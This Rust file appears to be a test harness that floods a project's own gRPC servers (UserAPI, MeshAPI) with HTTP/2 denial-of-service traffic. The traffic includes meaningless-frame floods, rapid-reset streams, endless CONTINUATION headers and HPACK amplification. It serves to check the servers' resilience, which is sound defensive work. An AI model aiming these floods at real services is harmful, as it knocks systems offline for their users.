//! Frames that a server has to look at, as many as it takes.

use std::{io, iter};

use super::super::{
    field::Field,
    frames::{self, frame},
    http2::{Appetite, Http2},
    stranger::Stranger,
};

/// Connections for each kind of frame.
const CONNECTIONS: usize = 4;
/// Frames that are written at once.
const AT_ONCE: usize = 500;
/// Length of the header field that is remembered once, and then named by its number.
const REMEMBERED: usize = 4000;

/// Frames that mean little or nothing.
pub(super) async fn of_frames(field: Field) {
    const KINDS: usize = 7;
    flood(field, CONNECTIONS * KINDS, |connection, attacker| async move {
        let meaningless = match attacker % KINDS {
            0 => frame(frames::PING, 0, 0, &[7; 8]),
            1 => frames::settings(&[(frames::INITIAL_WINDOW_SIZE, 1000)]),
            2 => frames::settings(&[]),
            3 => frames::window_update(1, 1),
            4 => frame(frames::PRIORITY, 0, 3, &[0, 0, 0, 1, 7]),
            5 => frame(frames::DATA, 0, 1, &[]),
            // Of a type that nobody knows.
            _ => frame(0xbb, 0xff, 1, &[]),
        };
        connection.request(1, "/edgelesssys.contrast.userapi.UserAPI/SetManifest", false).await?;
        let many = meaningless.repeat(AT_ONCE);
        loop {
            connection.write(&many).await?;
        }
    })
    .await;
}

/// Requests that are withdrawn in the same breath: by the attacker, or by the server because of a fault.
pub(super) async fn of_resets(field: Field) {
    flood(field, CONNECTIONS * 2, |connection, attacker| async move {
        let fields = frames::request("/edgelesssys.contrast.userapi.UserAPI/GetHistory");
        let mut streams = (1..u32::MAX / 2).step_by(2);
        loop {
            let requests: Vec<Vec<u8>> = streams
                .by_ref()
                .take(AT_ONCE)
                .flat_map(|stream| {
                    let flags = frames::END_HEADERS | frames::END_STREAM;
                    let withdrawal = match attacker % 2 {
                        0 => frame(frames::RST_STREAM, 0, stream, &[0, 0, 0, 8]),
                        // No window may be widened by nothing (RFC 9113, 6.9).
                        _ => frames::window_update(stream, 0),
                    };
                    [frame(frames::HEADERS, flags, stream, &fields), withdrawal]
                })
                .collect();
            connection.write(&requests.concat()).await?;
        }
    })
    .await;
}

/// Header fields that do not end, and header fields that are long once they are unpacked.
pub(super) async fn of_headers(field: Field) {
    flood(field, CONNECTIONS * 3, |connection, attacker| async move {
        let mut fields = frames::request("/meshapi.MeshAPI/NewMeshCert");
        if attacker % 3 == 0 {
            connection.write(&frame(frames::HEADERS, 0, 1, &fields)).await?;
            let mut more = Vec::new();
            frames::field(&mut more, b"x", &[b'x'; 1000]);
            let more = frame(frames::CONTINUATION, 0, 1, &more.repeat(16));
            loop {
                connection.write(&more).await?;
            }
        }
        if attacker % 3 == 1 {
            frames::remembered_field(&mut fields, b"x", &[b'x'; REMEMBERED]);
            // Field 62 of the table: the one before, a byte on the wire for each time.
            fields.extend(iter::repeat_n(0xbe, frames::MOST - fields.len()));
        } else {
            while fields.len() < frames::MOST - 8 {
                frames::field(&mut fields, b"x", b"");
            }
        }
        for stream in (1..u32::MAX / 2).step_by(2) {
            let flags = frames::END_HEADERS | frames::END_STREAM;
            connection.write(&frame(frames::HEADERS, flags, stream, &fields)).await?;
        }
        Ok(())
    })
    .await;
}

/// Connects to both APIs in turn, again and again, and floods each connection.
async fn flood<Writing>(
    field: Field,
    attackers: usize,
    write: impl Fn(Http2, usize) -> Writing + Copy + Send + Sync + 'static,
) where
    Writing: Future<Output = io::Result<()>> + Send,
{
    let stranger = Stranger::self_signed();
    field
        .run(attackers, move |field, attacker| {
            let stranger = stranger.clone();
            async move {
                // Kinds take turns as well, so that each kind meets both APIs.
                let api = field.either_api(attacker / CONNECTIONS + attacker);
                let connection = Http2::open(&field, &stranger, api, Appetite::Hungry).await?;
                write(connection, attacker).await
            }
        })
        .await;
}
